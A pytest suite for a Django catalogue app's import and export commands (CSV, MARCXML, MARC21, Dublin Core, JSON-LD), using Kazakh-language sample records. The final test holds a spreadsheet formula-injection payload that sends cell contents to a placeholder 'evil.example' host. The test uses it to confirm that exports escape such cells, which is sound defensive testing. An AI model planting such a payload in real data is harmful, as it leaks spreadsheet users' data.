import csv
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from lxml import etree
from pymarc import MARCReader

from mura.catalog.models import Access, AgentRole, Kind, Resource
from mura.catalog.services import resource_delete
from mura.catalog.tests.factories import PersonFactory, ResourceFactory, SubjectFactory


def run(*args, **options):
    out = io.StringIO()
    call_command(*args, stdout=out, **options)
    return out.getvalue()


def write_csv(path, rows, delimiter=","):
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    return path


def test_csv_import_skips_bad_rows_with_their_line_and_imports_the_rest(
    institution, tmp_path
):
    path = write_csv(
        tmp_path / "books.csv",
        [
            ["id", "title", "kind", "author", "year", "isbn", "language", "subjects"],
            [
                "k-1",
                "Қара сөздер",
                "book",
                "Құнанбайұлы, Абай",
                "2007",
                "978-601-709-264-3",
                "kk",
                "Философия; Әдебиет",
            ],
            ["k-2", "", "book", "", "", "", "", ""],
            ["k-3", "Сыр сандық", "scroll", "", "", "", "", ""],
            ["k-4", "Ақ кеме", "book", "Айтматов, Шыңғыс", "1970", "", "ru", ""],
        ],
    )
    output = run(
        "import", str(path), format="csv", institution=institution.slug, language="en"
    )
    assert "record 2 (line 3): skipped: the title is empty" in output
    assert "record 3 (line 4): skipped: unknown kind “scroll”" in output
    record = Resource.objects.get(source_id="k-1")
    assert (record.kind, record.year_from, record.isbn, record.language) == (
        Kind.BOOK,
        2007,
        "978-601-709-264-3",
        "kk",
    )
    assert record.agents.get().person.name_kk == "Құнанбайұлы, Абай"
    assert set(record.subjects.values_list("name_kk", flat=True)) == {
        "Әдебиет",
        "Философия",
    }
    assert Resource.objects.count() == 2


def test_csv_reimport_with_a_changed_row_updates_it(institution, tmp_path):
    header = ["id", "title", "year"]
    run(
        "import",
        str(
            write_csv(
                tmp_path / "a.csv", [header, ["x1", "Абай жолы", "1942"]], delimiter=";"
            )
        ),
        format="csv",
        institution=institution.slug,
    )
    output = run(
        "import",
        str(
            write_csv(
                tmp_path / "b.csv", [header, ["x1", "Абай жолы. 1-кітап", "1942"]]
            )
        ),
        format="csv",
        institution=institution.slug,
        language="en",
    )
    assert "1 record updated" in output
    assert list(Resource.objects.values_list("title", flat=True)) == [
        "Абай жолы. 1-кітап"
    ]


def test_control_characters_never_reach_the_database(institution, tmp_path):
    """PostgreSQL refuses NUL in text; the import drops control characters first."""
    path = write_csv(
        tmp_path / "nul.csv", [["title", "notes"], ["Абай\x00 жолы", "1-том\nекі жол"]]
    )
    run("import", str(path), format="csv", institution=institution.slug)
    record = Resource.objects.get()
    assert (record.title, record.notes) == ("Абай жолы", "1-том\nекі жол")


def test_csv_with_an_unknown_column_is_refused_before_anything_is_written(
    institution, tmp_path
):
    path = write_csv(tmp_path / "bad.csv", [["title", "colour"], ["Абай жолы", "red"]])
    with pytest.raises(CommandError, match="colour"):
        run(
            "import",
            str(path),
            format="csv",
            institution=institution.slug,
            language="en",
        )
    assert Resource.objects.count() == 0


def test_unknown_institution_is_a_clear_error(db, tmp_path):
    with pytest.raises(CommandError, match="nowhere"):
        run(
            "import",
            str(tmp_path / "x.csv"),
            format="csv",
            institution="nowhere",
            language="en",
        )


@pytest.fixture
def catalogue(institution):
    author = PersonFactory(name_kk="Торайғыров, Сұлтанмахмұт", life_dates="1893–1920")
    subject = SubjectFactory(name_kk="Қазақ поэзиясы")
    books = [
        ResourceFactory(
            institution=institution,
            title="Қамар сұлу",
            date_text="1914",
            language="kk",
            isbn="978-601-00-0000-1",
            agents=[(AgentRole.AUTHOR, author)],
            subjects=[subject],
        ),
        ResourceFactory(
            institution=institution,
            title="Адасқан өмір",
            other_title="поэма",
            date_text="1918",
        ),
        ResourceFactory(
            institution=institution,
            kind=Kind.FONDS,
            title="Қызылорда губерниялық атқару комитеті",
        ),
    ]
    deleted = ResourceFactory(institution=institution, title="Жойылған жазба")
    resource_delete(resource=deleted)
    ResourceFactory(
        institution=institution, title="Қызметтік жазба", access=Access.STAFF
    )
    return books


def test_marcxml_export_round_trip_gives_the_same_titles(
    catalogue, institution, other_institution, tmp_path, testdata
):
    path = tmp_path / "export.xml"
    run("export", format="marcxml", institution=institution.slug, output=str(path))
    schema = etree.XMLSchema(etree.parse(str(testdata / "marc/schemas/MARC21slim.xsd")))
    schema.assertValid(etree.parse(str(path)))
    run("import", str(path), format="marcxml", institution=other_institution.slug)
    imported = Resource.objects.filter(institution=other_institution)
    assert sorted(imported.values_list("title", flat=True)) == sorted(
        book.title for book in catalogue
    )
    poem = imported.get(title="Қамар сұлу")
    assert poem.agents.get().person.name_kk == "Торайғыров, Сұлтанмахмұт"
    assert list(poem.subjects.values_list("name_kk", flat=True)) == ["Қазақ поэзиясы"]
    # MARC 21's 020 holds the ISBN without hyphens (issue 16).
    assert (poem.year_from, poem.language, poem.isbn) == (1914, "kk", "9786010000001")
    assert imported.get(title="Адасқан өмір").other_title == "поэма"
    assert imported.get(title__startswith="Қызылорда").kind == Kind.FONDS


def test_exports_leave_out_tombstones_and_restricted_records_unless_all(
    catalogue, institution, tmp_path
):
    path = tmp_path / "export.csv"
    run("export", format="csv", output=str(path))
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
    assert sorted(row["title"] for row in rows) == sorted(
        book.title for book in catalogue
    )
    run("export", format="csv", output=str(path), all=True)
    titles = [row["title"] for row in csv.DictReader(path.open(encoding="utf-8-sig"))]
    assert "Қызметтік жазба" in titles and "Жойылған жазба" not in titles


def test_csv_export_reimports_into_another_institution(
    catalogue, other_institution, tmp_path
):
    path = tmp_path / "export.csv"
    run("export", format="csv", output=str(path))
    run("import", str(path), format="csv", institution=other_institution.slug)
    copy = Resource.objects.get(institution=other_institution, title="Қамар сұлу")
    assert copy.agents.get().person.name_kk == "Торайғыров, Сұлтанмахмұт"


def test_dc_jsonld_and_marc21_exports(catalogue, tmp_path):
    run("export", format="dc", output=str(tmp_path / "dc.xml"))
    dc = etree.parse(str(tmp_path / "dc.xml"))
    ns = {"dc": "http://purl.org/dc/elements/1.1/"}
    assert "Қамар сұлу" in dc.xpath("//dc:title/text()", namespaces=ns)
    assert "Торайғыров, Сұлтанмахмұт" in dc.xpath("//dc:creator/text()", namespaces=ns)

    run("export", format="jsonld", output=str(tmp_path / "items.jsonld"), language="ru")
    graph = json.loads((tmp_path / "items.jsonld").read_text())["@graph"]
    assert {item["@type"] for item in graph} == {"Book", "ArchiveComponent"}
    assert all(
        item["url"].startswith("http://testserver/catalog/items/") for item in graph
    )

    run("export", format="marc21", output=str(tmp_path / "items.mrc"))
    with (tmp_path / "items.mrc").open("rb") as handle:
        records = list(MARCReader(handle))
    assert len(records) == 3
    assert "Қамар сұлу" in [record["245"]["a"].rstrip(" /:") for record in records]


def test_csv_export_cells_do_not_run_as_formulas_and_reimport_unchanged(
    institution, other_institution, tmp_path
):
    """A harvested title such as `=HYPERLINK(…)` is text in a spreadsheet, and the
    export imported again gives back exactly the stored values."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    ResourceFactory(
        institution=institution, title=formula, date_text="-500", notes="@home"
    )
    path = tmp_path / "export.csv"
    run("export", format="csv", output=str(path))
    (row,) = csv.DictReader(path.open(encoding="utf-8-sig"))
    assert row["title"] == "'" + formula
    assert (row["year"], row["notes"]) == ("'-500", "'@home")
    run("import", str(path), format="csv", institution=other_institution.slug)
    copy = Resource.objects.get(institution=other_institution)
    assert (copy.title, copy.date_text, copy.notes) == (formula, "-500", "@home")
